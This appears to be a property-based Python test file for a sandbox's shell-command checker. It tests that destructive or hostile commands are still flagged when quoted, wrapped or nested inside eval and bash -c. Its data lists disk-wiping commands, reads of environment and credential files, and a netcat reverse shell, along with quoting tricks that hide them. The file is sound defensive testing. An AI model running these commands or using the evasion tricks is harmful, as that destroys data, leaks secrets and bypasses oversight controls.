"""Whatever way a word is written, it is the same word: for bash, and for the check."""

from __future__ import annotations

import shutil
import subprocess

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from sandbox_scripts.drivers.research.check import refusals
from tests.runner.research.corpus import HOSTS
from tests.runner.research.quoting import line, written

DANGEROUS = (
    ("rm", "-rf", "/"),
    ("rm", "-rf", "/home/user"),
    ("sudo", "ls"),
    ("mkfs.ext4", "/dev/sda1"),
    ("dd", "if=/dev/zero", "of=/dev/sda"),
    ("chmod", "777", "file"),
    ("shutdown", "now"),
    ("cat", "/proc/self/environ"),
    ("cat", "/home/user/.sandstream/job.json"),
    ("nc", "-e", "/bin/sh", "10.0.0.1"),
    ("vim", "notes"),
    ("nohup", "./worker"),
)
WRAPPED = (
    "{}",
    "env {}",
    "command {}",
    "timeout 5 nice {}",
    "if true; then {}; fi",
    "for _ in 1; do {}; done",
    "( {} )",
    "true && {}",
    "false || {}",
    "echo $( {} )",
    "f() {{ {}; }}; f",
    "cat <( {} )",
    "eval {}",
    "xargs {} <<< ''",
)
EXECUTED = ("eval {}", "bash -c {}", "sh <<< {}", "echo {} | sh", "printf '%s\\n' {} | bash", 'x={}; eval "$x"')
FEW = settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def single(text: str) -> str:
    """The text as one word."""
    return "'" + text.replace("'", "'\\''") + "'"


@FEW
@given(st.sampled_from(DANGEROUS).flatmap(line), st.sampled_from(WRAPPED))
@example("r''m -r\"f\" \\/", "{}")
@example("$'\\162m' -rf ${unset_:-/}", "env {}")
def test_quoting_a_dangerous_word_does_not_hide_it(command: str, wrapped: str) -> None:
    """Each word in pieces, each piece quoted in any way, within anything that runs it."""
    if "timeout" in wrapped and "notes" in "".join(char for char in command if char.isalnum()):
        return  # an editor that is ended in time is no matter
    assert refusals(wrapped.format(command), HOSTS) or _is_limited(wrapped)


@FEW
@given(st.sampled_from(DANGEROUS), st.sampled_from(EXECUTED), st.sampled_from(EXECUTED))
def test_text_that_is_executed_is_read_however_deep(words: tuple[str, ...], inner: str, outer: str) -> None:
    """A text within a text within a command is a command."""
    text = outer.format(single(inner.format(single(" ".join(words)))))
    assert refusals(text, HOSTS)


@FEW
@given(
    st.sampled_from(("ls", "cat", "echo")).flatmap(written), st.sampled_from(("a.txt", "build", "-la")).flatmap(written)
)
def test_quoting_alone_is_no_reason_to_refuse(name: str, argument: str) -> None:
    """An ordinary command that is written in an odd way is an ordinary command."""
    told = {refusal.rule for refusal in refusals(f"{name} {argument}", HOSTS)}
    assert told <= ({"unknown-command"} if "unset_}" in name else set())  # it may be set outside


@pytest.mark.skipif(shutil.which("bash") is None or shutil.which("xxd") is None, reason="bash and xxd decide here")
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(("rm", "-rf", "a/b", "a=b", "mkfs.ext4")).flatmap(written), min_size=1, max_size=8))
def test_what_is_generated_here_is_what_bash_reads(words: list[str]) -> None:
    """The ways to write a word are bash's own: it prints the words as they are meant."""
    script = "printf '%s\\n' " + " ".join(words)
    told = subprocess.run(["bash", "-c", script], capture_output=True, text=True, check=True).stdout.split("\n")[:-1]
    assert len(told) == len(words)
    assert set(told) <= {"rm", "-rf", "a/b", "a=b", "mkfs.ext4"}


def _is_limited(wrapped: str) -> bool:
    """Whether an endless command would be ended in time."""
    return "timeout" in wrapped
